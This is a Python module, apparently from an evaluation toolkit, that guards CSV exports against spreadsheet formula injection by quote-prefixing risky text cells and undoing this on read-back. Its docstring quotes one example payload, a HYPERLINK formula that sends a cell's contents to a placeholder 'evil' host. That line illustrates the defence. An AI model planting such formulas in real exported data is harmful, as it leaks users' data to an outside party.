"""CSV cells that a spreadsheet will not run: text starting with ``= + - @`` (or tab/CR) gets a leading ``'``.

Prompts are user text and end up in result tables; opened in Excel or
LibreOffice, a cell such as ``=HYPERLINK("http://evil/?"&A1,"x")`` is a live
formula (OWASP "CSV injection"). The usual defence, prefixing such text with a
single quote, is applied to text cells only: numbers (``-0.5`` as a float)
are written as numbers. A cell that itself starts with ``'`` gets one more, so
:func:`unescape_cell` gives back exactly the original text when the toolkit
reads its own CSVs.
"""

from __future__ import annotations

from collections.abc import Callable

import pandas as pd

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "'")


def _is_text(column: pd.Series) -> bool:
    return column.dtype == object or pd.api.types.is_string_dtype(column.dtype)


def escape_cell(value: object) -> object:
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def unescape_cell(value: object) -> object:
    if isinstance(value, str) and value.startswith("'"):
        return value[1:]
    return value


def escape_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy whose text cells (and column names) cannot be read as formulas."""
    return _map_text(frame, escape_cell)


def unescape_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """Inverse of :func:`escape_frame` for a frame read back with ``pd.read_csv``."""
    return _map_text(frame, unescape_cell)


def _map_text(frame: pd.DataFrame, cell: Callable[[object], object]) -> pd.DataFrame:
    """A copy with ``cell`` applied to every text cell and every column name (numbers are left as they are)."""
    out = frame.copy()
    for column in out.columns:
        if _is_text(out[column]):
            out[column] = out[column].map(cell)
    out.columns = [cell(c) for c in out.columns]
    return out
